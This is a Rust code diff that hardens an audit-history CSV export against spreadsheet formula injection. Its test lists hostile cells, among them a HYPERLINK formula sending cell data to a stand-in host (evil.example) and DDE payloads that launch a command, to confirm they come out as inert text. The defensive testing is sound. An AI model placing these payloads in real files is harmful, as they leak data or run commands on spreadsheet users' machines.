@@ -43,7 +43,8 @@ pub struct Stats {
 pub enum ExportFormat {
     /// One JSON object per line.
     Jsonl,
-    /// RFC 4180 CSV with a header.
+    /// RFC 4180 CSV with a header, for spreadsheets: written by the `csv` crate, and every cell a
+    /// spreadsheet would run as a formula is neutralized by a leading `'` (see [`csv_cell`]).
     Csv,
 }
 
@@ -58,12 +59,40 @@ impl ExportFormat {
     }
 }
 
-fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", s.replace('"', "\"\""))
-    } else {
-        s.to_string()
+/// A CSV cell a spreadsheet will not evaluate (OWASP "CSV Injection"): a cell starting with `=`,
+/// `+`, `-`, `@`, TAB or CR — or their full-width forms, which some spreadsheets read as the same —
+/// gets a leading single quote, so it is shown as the text it is. Every other cell is unchanged;
+/// quoting, embedded quotes and newlines are the CSV writer's business.
+pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}') => {
+            format!("'{s}").into()
+        }
+        _ => s.into(),
     }
+}
+
+/// `rows` as CSV with a header, every cell through [`csv_cell`].
+pub fn write_csv(rows: &[Row], out: &mut impl Write) -> Result<()> {
+    let bad = |e: csv::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
+    let mut w = csv::Writer::from_writer(out);
+    w.write_record(["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]).map_err(bad)?;
+    for r in rows {
+        let (seq, at) = (r.seq.to_string(), r.at.to_string());
+        let cells = [
+            seq.as_str(),
+            at.as_str(),
+            &r.kind,
+            r.ep.as_deref().unwrap_or(""),
+            r.request_id.as_deref().unwrap_or(""),
+            &r.detail,
+            &r.prev_hash,
+            &r.hash,
+        ];
+        w.write_record(cells.map(csv_cell).iter().map(|c| c.as_bytes())).map_err(bad)?;
+    }
+    w.flush().map_err(|e| ConsoleError::Invalid(format!("writing the export: {e}")))?;
+    Ok(())
 }
 
 /// Civil date (UTC) of a Unix time, `YYYY-MM-DD`.
@@ -239,32 +268,21 @@ impl Console {
     }
 
     /// Write the whole history, oldest first, with every column (including the original signed
-    /// tokens held in `detail` and the chain hashes) — everything an auditor needs.
+    /// tokens held in `detail` and the chain hashes) — everything an auditor needs. JSONL is exact
+    /// (hidden characters inside strings are written as `\u` escapes: the same values, safe on a
+    /// terminal); CSV is for spreadsheets, formula cells neutralized ([`csv_cell`]).
     pub async fn export_history(&self, format: ExportFormat, out: &mut impl Write) -> Result<usize> {
         let mut rows = self.history(&Filter::default()).await?;
         rows.reverse();
         let io = |e: std::io::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
-        if format == ExportFormat::Csv {
-            writeln!(out, "seq,at,kind,ep,request_id,detail,prev_hash,hash").map_err(io)?;
-        }
-        for r in &rows {
-            let line = match format {
-                ExportFormat::Jsonl => {
-                    serde_json::to_string(r).map_err(|e| ConsoleError::Invalid(e.to_string()))?
+        match format {
+            ExportFormat::Csv => write_csv(&rows, out)?,
+            ExportFormat::Jsonl => {
+                for r in &rows {
+                    let line = serde_json::to_string(r).map_err(|e| ConsoleError::Invalid(e.to_string()))?;
+                    writeln!(out, "{}", crate::display::json_safe(&line)).map_err(io)?;
                 }
-                ExportFormat::Csv => [
-                    r.seq.to_string(),
-                    r.at.to_string(),
-                    csv_field(&r.kind),
-                    csv_field(r.ep.as_deref().unwrap_or("")),
-                    csv_field(r.request_id.as_deref().unwrap_or("")),
-                    csv_field(&r.detail),
-                    r.prev_hash.clone(),
-                    r.hash.clone(),
-                ]
-                .join(","),
-            };
-            writeln!(out, "{line}").map_err(io)?;
+            }
         }
         Ok(rows.len())
     }
@@ -361,10 +379,51 @@ mod tests {
         }
     }
 
+    /// Hostile cells come back from a CSV parser as text starting with `'`; quoting, quotes and
+    /// newlines round-trip; ordinary cells are untouched.
     #[test]
-    fn csv_quotes_only_when_needed() {
-        assert_eq!(csv_field("plain"), "plain");
-        assert_eq!(csv_field("a,\"b\"\nc"), "\"a,\"\"b\"\"\nc\"");
+    fn csv_export_neutralizes_formulas_and_round_trips() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\u{FF1D}1+1",
+        ];
+        let row = |seq: i64, kind: &str, ep: &str, id: &str, detail: &str| Row {
+            seq,
+            at: 1_795_651_200,
+            kind: kind.into(),
+            ep: Some(ep.into()),
+            request_id: Some(id.into()),
+            detail: detail.into(),
+            prev_hash: "sha256:prev".into(),
+            hash: "sha256:this".into(),
+        };
+        let mut rows: Vec<Row> =
+            hostile.iter().enumerate().map(|(i, h)| row(i as i64 + 1, "request received", h, h, h)).collect();
+        let tricky = "a, \"quoted\"\nsecond line\r\nthird";
+        rows.push(row(99, "request received", "ep-plain", "req,1", tricky));
+        let mut out = Vec::new();
+        write_csv(&rows, &mut out).unwrap();
+        let mut reader = csv::Reader::from_reader(out.as_slice());
+        assert_eq!(
+            reader.headers().unwrap(),
+            vec!["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]
+        );
+        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert_eq!(records.len(), rows.len());
+        for (rec, h) in records.iter().zip(hostile) {
+            for col in [3, 4, 5] {
+                assert_eq!(&rec[col], format!("'{h}"), "column {col} of {h:?} is neutralized text");
+            }
+            assert_eq!(&rec[2], "request received");
+        }
+        let last = &records[hostile.len()];
+        assert_eq!((&last[0], &last[3], &last[4], &last[5]), ("99", "ep-plain", "req,1", tricky));
+        assert_eq!(&last[7], "sha256:this");
     }
 
     #[test]
